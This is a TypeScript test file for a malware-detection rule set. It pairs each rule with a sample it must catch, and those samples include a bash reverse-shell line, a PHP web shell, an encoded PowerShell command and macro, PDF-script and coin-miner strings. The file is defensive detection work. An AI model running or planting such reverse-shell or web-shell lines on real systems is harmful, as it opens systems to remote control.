import assert from "node:assert/strict";
import { test } from "node:test";
import { eicarBytes } from "./eicar.ts";
import { Rules, rulesVersion, shippedRules } from "./rules.ts";
import type { Family } from "./type.ts";

const text = shippedRules();
const rules = new Rules(text);
const OLE = "d0cf11e0a1b11ae1";

function wide(words: string): Buffer {
  return Buffer.from(words, "utf16le");
}

/** For every shipped rule one thing that it must find. */
const SAMPLES: Readonly<Record<string, { family: Family; bytes: Uint8Array }>> = {
  eicar_test_file: { family: "unknown", bytes: eicarBytes() },
  shortcut_runs_script: { family: "shortcut", bytes: wide("C:\\Windows\\System32\\cmd.exe /c x") },
  autorun_file: { family: "unknown", bytes: Buffer.from("[AutoRun]\r\nopen=setup.exe\r\n") },
  office_macro_runs_by_itself: {
    family: "document",
    bytes: Buffer.concat([Buffer.from(OLE, "hex"), wide("_VBA_PROJECT"), Buffer.from("AutoOpen")]),
  },
  office_encrypted: { family: "document", bytes: Buffer.concat([wide("EncryptedPackage"), wide("EncryptionInfo")]) },
  macro_downloads_program: {
    family: "unknown",
    bytes: Buffer.from('Sub AutoOpen()\nSet x = CreateObject("WScript.Shell")\nEnd Sub\n'),
  },
  pdf_runs_script: { family: "document", bytes: Buffer.from("%PDF-1.4 /OpenAction << /S /JavaScript /JS (x) >>") },
  program_in_picture: { family: "image", bytes: Buffer.from("..This program cannot be run in DOS mode..") },
  encoded_powershell: { family: "script", bytes: Buffer.from(`powershell.exe -nop -enc ${"QUJD".repeat(40)}`) },
  reverse_shell: { family: "script", bytes: Buffer.from("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") },
  web_shell: { family: "unknown", bytes: Buffer.from("<?php eval(base64_decode($_POST['x']));") },
  coin_miner: { family: "unknown", bytes: Buffer.from("stratum+tcp://pool donate-level RandomX") },
};

test("every shipped rule finds its sample, and says how bad it is and why", () => {
  const names = [...text.matchAll(/^rule (\w+) \{/gmu)].map((match) => match[1] ?? "");
  assert.deepEqual(
    Object.keys(SAMPLES).toSorted((a, b) => a.localeCompare(b)),
    names.toSorted((a, b) => a.localeCompare(b)),
  );
  for (const [name, { family, bytes }] of Object.entries(SAMPLES)) {
    const found = rules.matches(bytes, { family, bytes: bytes.length }).find((match) => match.rule === name);
    assert.ok(found, name);
    assert.match(found.why, /^It |^A /u);
  }
});

test("a rule's metadata keeps it from files that it does not mean", () => {
  const { bytes } = SAMPLES["program_in_picture"] ?? { bytes: new Uint8Array(0) };
  assert.deepEqual(rules.matches(bytes, { family: "program", bytes: bytes.length }), []);
  const script = SAMPLES["reverse_shell"]?.bytes ?? new Uint8Array(0);
  assert.deepEqual(rules.matches(script, { family: "script", bytes: 10_000_000 }), []);
});

test("no rule looks at offsets or sizes, or has a pattern without an end: windows and batches stay sound", () => {
  const conditions = [...text.matchAll(/condition:\n([\s\S]*?)\n\}/gu)].map((match) => match[1] ?? "");
  assert.equal(conditions.length, Object.keys(SAMPLES).length);
  for (const condition of conditions) assert.doesNotMatch(condition, /filesize|\bu?int\d|[@#!]|\bat\b|\bin\b|\bfor\b/u);
  for (const [, pattern] of text.matchAll(/^ {4}\$\w+ = (\/.*)$/gmu)) {
    const outsideClasses = (pattern ?? "").replaceAll(/\[(?:\\.|[^\]])*\]/gu, "x");
    assert.doesNotMatch(outsideClasses, /[^\\][*+]|,\}/u);
  }
});

test("H131: one changed byte is another version", () => {
  assert.notEqual(rulesVersion(text), rulesVersion(`${text} `));
});
